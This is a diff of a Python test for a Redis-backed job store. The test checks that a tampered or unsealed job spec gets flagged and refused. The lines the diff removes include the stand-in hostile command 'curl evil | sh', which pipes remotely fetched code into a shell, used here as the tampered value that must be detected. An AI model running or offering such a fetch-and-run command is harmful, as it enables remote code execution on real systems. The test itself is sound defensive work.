@@ -117,14 +117,10 @@ def test_a_spec_is_sealed_at_submit_and_a_changed_or_unsealed_one_refused(
     redis_client.hset(f"{redis_prefix}job:{job.id}", "doc", json.dumps(doc))
     tampered = RedisStore(redis_client, Config(), prefix=redis_prefix).get(job.id)
     assert "SpecTampered" in store.spec_problems([tampered])[job.id]
-    agents = RedisStore(redis_client, Config(), prefix=redis_prefix)  # the agent's one read
-    found, refused = agents.get_many_checked([job.id, "no-such-job"])
-    assert [j.spec.command if j else None for j in found] == ["curl evil | sh", None]
-    assert list(refused) == [job.id] and "SpecTampered" in refused[job.id]
     redis_client.delete(seal.seal_key(redis_prefix, job.id))  # (an agent's user cannot)
     assert "SpecNotSealed" in store.spec_problems([tampered])[job.id]
-    assert "SpecNotSealed" in agents.get_many_checked([job.id])[1][job.id]
-    assert agents.get_many_checked([]) == ([], {})
+    # (what the agent reads, its node's view with each job's seal, is judged the same way:
+    # tests/contract/test_node_reports.py)
 
 
 def test_the_boot_script_keeps_a_password_off_the_command_line(tmp_path: Path) -> None:
